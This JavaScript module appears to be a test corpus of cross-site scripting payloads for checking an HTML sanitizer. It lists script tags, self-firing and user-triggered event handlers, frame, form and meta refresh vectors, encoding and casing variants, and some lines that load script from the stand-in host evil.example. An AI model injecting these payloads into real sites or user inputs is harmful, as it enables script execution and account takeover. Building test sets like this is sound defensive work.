// Elements that run something, and the ways to write them.
'use strict';
const {each, turns, hex, decimal, mixed} = require('./spell.js');

const scripts = [
  '<script>CALL</script>', '<SCRIPT>CALL</SCRIPT>', '<ScRiPt>CALL</sCrIpT>', '<script >CALL</script >', '<script/>CALL</script>',
  '<script/x>CALL</script/x>', '<script\t>CALL</script\t>', '<script\n>CALL</script\n>', '<script\f>CALL</script\f>',
  '<script x="">">CALL</script>', '<script x=">">CALL</script>', "<script x='>'>CALL</script>", '<script =x>CALL</script>',
  '<script type=module>CALL</script>', '<script type="text/javascript">CALL</script>', '<script type="">CALL</script>',
  '<script language=javascript>CALL</script>', '<script async>CALL</script>', '<script defer>CALL</script>',
  '<script type="application/ecmascript">CALL</script>', '<script type=" Text/JavaScript ">CALL</script>',
  '<script type=module>import "/xss-marker"</script>', '<script src=/xss-marker></script>', '<script src="data:,CALL"></script>',
  '<script src="data:text/javascript,CALL"></script>', '<script src=//evil.example/xss-marker></script>',
  '<script src="&#47;xss-marker"></script>', '<script>CALL', '<script>CALL//</script', '<<script>CALL</script>',
  '<script><!--\nCALL\n//--></script>', '<script><!--CALL\n</script>', '<script>/*</script><script>*/CALL</script>',
  '<script>CALL</script><script>CALL</script>', '</p></div><script>CALL</script>', '<scr<script>ipt>CALL</scr</script>ipt>',
  '<script>//\u2028CALL</script>', '<script>//\u2029CALL</script>', '<script>\\u0061lert(1)</script>',
  '<script>setTimeout("CALL")</script>', '<script>new Function("CALL")()</script>', '<script>location="javascript:CALL"</script>',
  '<script>onerror=__xss;throw 1</script>', '<script>{onerror=alert}throw 1</script>', '<script>for(;;){CALL;break}</script>',
  '<svg><script>CALL</script></svg>', '<svg><script>' + hex('__xss(1)') + '</script></svg>', '<svg><script>CALL</svg>',
  '<svg><script>' + decimal('alert(1)') + '</script>', '<svg><script href="data:,CALL" /></svg>',
  '<svg><script xlink:href="data:,CALL"></script></svg>', '<svg><g><script><![CDATA[CALL]]></script></g></svg>',
  '<svg><script>CALL<!-- --></script>', '<svg><foreignObject><script>CALL</script></foreignObject></svg>',
  '<math><mtext><script>CALL</script></mtext></math>', '<svg><desc><script>CALL</script></desc></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><script>CALL</script></svg>', '<link rel=preload as=script href=/xss-marker>',
  '<link rel=modulepreload href=/xss-marker>', '<script type=speculationrules>{"prefetch":[{"urls":["/xss-marker"]}]}</script>',
];

// These fire by themselves.
const selfFiring = [
  ['img', 'src=x', 'onerror'], ['img', 'src=/favicon.svg', 'onload'], ['image', 'src=x', 'onerror'], ['svg', '', 'onload'],
  ['body', '', 'onload'], ['body', '', 'onpageshow'], ['input', 'autofocus', 'onfocus'], ['select', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'], ['button', 'autofocus', 'onfocus'], ['a', 'href=x autofocus', 'onfocus'],
  ['div', 'tabindex=1 autofocus', 'onfocus'], ['x-y', 'contenteditable autofocus', 'onfocusin'], ['video', 'src=x', 'onerror'],
  ['audio', 'src=x', 'onerror'], ['video', 'src=x', 'onloadstart'], ['video><source', 'src=x', 'onerror'],
  ['iframe', '', 'onload'], ['iframe', 'srcdoc=x', 'onload'], ['object', 'data=x', 'onerror'], ['object', 'data=/favicon.svg', 'onload'],
  ['embed', 'src=/favicon.svg', 'onload'], ['details', 'open', 'ontoggle'], ['details open', '', 'ONTOGGLE'],
  ['marquee', '', 'onstart'], ['marquee', 'loop=1 width=0', 'onfinish'], ['link', 'rel=stylesheet href=x', 'onerror'],
  ['link', 'rel=icon href=/favicon.svg', 'onload'], ['style', '', 'onload'], ['script', 'src=x', 'onerror'],
  ['input', 'type=image src=x', 'onerror'], ['svg><image', 'href=x', 'onerror'], ['svg><animate', 'attributeName=x dur=1s', 'onbegin'],
  ['svg><set', 'attributeName=x dur=1s', 'onbegin'], ['svg><animateTransform', 'attributeName=transform', 'onbegin'],
  ['svg><style', '', 'onload'], ['svg><script', 'href=x', 'onerror'], ['picture><img', 'srcset=x', 'onerror'],
  ['frameset', '', 'onload'], ['dialog', 'open tabindex=1 autofocus', 'onfocus'], ['math', 'tabindex=1 autofocus', 'onfocus'],
  ['summary', 'tabindex=1 autofocus', 'onfocus'], ['p', 'style="animation:x 1s"', 'onanimationstart'],
];

// These wait for a visitor.
const waiting = ['onclick', 'onmouseover', 'onmouseenter', 'onmousedown', 'onmouseup', 'onmousemove', 'onpointerover', 'onpointerdown',
                 'onpointerrawupdate', 'onfocus', 'onfocusin', 'onblur', 'onkeydown', 'onkeypress', 'oninput', 'onchange', 'oncopy',
                 'oncut', 'onpaste', 'ondblclick', 'onauxclick', 'oncontextmenu', 'ondragstart', 'ondrop', 'onwheel', 'onscroll',
                 'ontouchstart', 'onselectstart', 'onbeforeinput', 'onbeforetoggle', 'onsubmit', 'onsearch', 'ontransitionend',
                 'onscrollend', 'onbeforematch', 'ongotpointercapture', 'onformdata', 'oninvalid', 'onslotchange', 'onselectionchange'];
const plainElements = ['a href=x', 'b', 'div', 'p', 'td', 'span', 'code', 'h2', 'li', 'img src=x', 'ul', 'pre', 'blockquote'];

const between = [' ', '/', '\t', '\n', '\f', '\r', ' / ', '//', ' x ', ' x=y ', ' "" ', '/x=">"/', " ' ", ' =x '];
const quotes = [['', ''], ['"', '"'], ["'", "'"], ['"', '">'], [' "', '" '], ['\n"\n', '\n"\n']];

module.exports = [
  {name: 'script elements', as: 'html', texts: scripts},
  {name: 'handlers that fire by themselves', as: 'html', texts: [
    ...selfFiring.map(([element, more, handler]) => `<${element} ${more} ${handler}=CALL>`),
    ...selfFiring.map(([element, more, handler]) => `<${element} ${handler}="CALL" ${more}>x</${element.split(/[> ]/).pop()}>`),
    ...selfFiring.map(([element, more, handler]) => `<${mixed(element)} ${more} ${mixed(handler)}='CALL'/>`),
  ]},
  {name: 'handlers that wait', as: 'html', texts: [
    ...turns([waiting, plainElements], (handler, element) => `<${element} ${handler}=CALL>wait</${element.split(' ')[0]}>`),
    ...waiting.map((handler) => `text <em ${handler}="CALL">in **the** line</em> text`),
  ]},
  {name: 'spellings of a handler', as: 'html', texts: [
    ...each([['img', 'svg'], between, quotes], (element, gap, [open, close]) =>
      `<${element}${gap}${element === 'img' ? 'src=x onerror' : 'onload'}=${open}CALL${close}>`),
    ...['onerror\t', 'onerror\n', 'onerror\r', 'onerror\f', 'onerror ', 'OnErRoR', 'onerror'].flatMap((name) =>
      [`<img src=x ${name}=CALL>`, `<img src=x\n${name}=\n"CALL"\n>`]),
    `<img src=x onerror=${hex('__xss(1)')}>`, `<img src=x onerror="${decimal('__xss(1)')}">`,
    '<img src=x onerror=&#95;_xss(1)>', '<img src=x onerror=__xss&lpar;1&rpar;>', '<img src=x onerror=__xss&#x28;1&#x29>',
    '<img src=x onerror="CALL', '<img src=x onerror=CALL', '<img src=x onerror=CALL//', '<img src=x onerror=CALL <p>after',
    '<img """><img src=x onerror=CALL>">', "<img '''><img src=x onerror=CALL>'>", '<img src="x`><img src=x onerror=CALL>`">',
    '<img src=x alt="<" onerror=CALL>', '<img src=x alt=">" onerror=CALL>', '<img src=x title="--><x>" onerror=CALL>',
    '<img src=x onerror=CALL onerror=x>', '<img src=x ONERROR=CALL ONLOAD=CALL>', '<img/src/onerror=CALL>',
    '<img src onerror=CALL>', '<img src="" onerror=CALL>', '<img src=x:x onerror=CALL>', '<img src=http: onerror=CALL>',
    '<img<img src=x onerror=CALL>', '<img src=x onerror=CALL></img>', '<IMG SRC=X ONERROR="CALL">', '< img src=x onerror=CALL>',
    '<\nimg src=x onerror=CALL>', '<img\u00a0src=x\u00a0onerror=CALL>', '<img\u2028src=x onerror=CALL>', '<img\vsrc=x onerror=CALL>',
  ]},
  {name: 'frames, objects and forms', as: 'html', texts: [
    '<iframe srcdoc="<script>parent.CALL</script>"></iframe>', '<iframe srcdoc="&lt;script&gt;CALL&lt;/script&gt;"></iframe>',
    '<iframe srcdoc=<svg/onload=CALL>>', '<iframe src="data:text/html,<script>CALL</script>">', '<iframe src=javascript:CALL>',
    '<iframe src=/xss-marker></iframe>', '<frameset><frame src=javascript:CALL></frameset>', '<frame src=javascript:CALL>',
    '<object data=javascript:CALL>', '<object data="data:text/html,<script>CALL</script>"></object>', '<object data=/xss-marker></object>',
    '<embed src=javascript:CALL>', '<embed src=/xss-marker>', '<applet code=x onerror=CALL>', '<portal src=/xss-marker>',
    '<fencedframe src=/xss-marker></fencedframe>', '<form action=javascript:CALL><input type=submit autofocus></form>',
    '<form id=f></form><button form=f formaction=javascript:CALL>go</button>', '<form><button formaction=javascript:CALL>go</button></form>',
    '<form><input type=image src=x formaction=javascript:CALL onerror=CALL>', '<form action=/xss-marker><input name=q autofocus>',
    '<isindex action=javascript:CALL type=submit>', '<keygen autofocus onfocus=CALL>', '<command onclick=CALL>', '<menuitem onclick=CALL>x',
    '<input type=submit formaction=javascript:CALL value=go>', '<dialog open onclose=CALL><form method=dialog><button>x</button></form></dialog>',
    '<button popovertarget=p>x</button><div id=p popover onbeforetoggle=CALL>y</div>', '<button commandfor=p command=show-modal>x</button><dialog id=p ontoggle=CALL>y</dialog>',
  ]},
  {name: 'refresh, base and meta', as: 'html', texts: [
    '<meta http-equiv=refresh content="0;url=javascript:CALL">', '<meta http-equiv=refresh content="0;url=/xss-marker">',
    '<meta http-equiv="Refresh" content="0; URL=data:text/html,<script>CALL</script>">', '<META HTTP-EQUIV=REFRESH CONTENT=0;/xss-marker>',
    '<meta http-equiv=refresh content="0.5 /xss-marker">', '<meta http-equiv=set-cookie content="x=1">', '<meta charset=utf-7>',
    '<meta http-equiv=content-security-policy content="script-src *">', '<meta name=referrer content=unsafe-url>',
    '<base href=javascript:/x/><a href=CALL>x</a>', '<base href=//evil.example/>', '<base target=_top>', '<BASE HREF="//evil.example/xss-marker/">',
    '<link rel=stylesheet href=/xss-marker>', '<link rel=import href=/xss-marker>', '<link rel=prefetch href=/xss-marker>',
    '<link rel=canonical href=//evil.example/>', '<link rel=manifest href=/xss-marker>', '<link rel="dns-prefetch" href=//evil.example>',
    '<title>taken over</title>', '<body background=/xss-marker>', '<html onclick=CALL>', '<head><script>CALL</script></head>',
  ]},
];
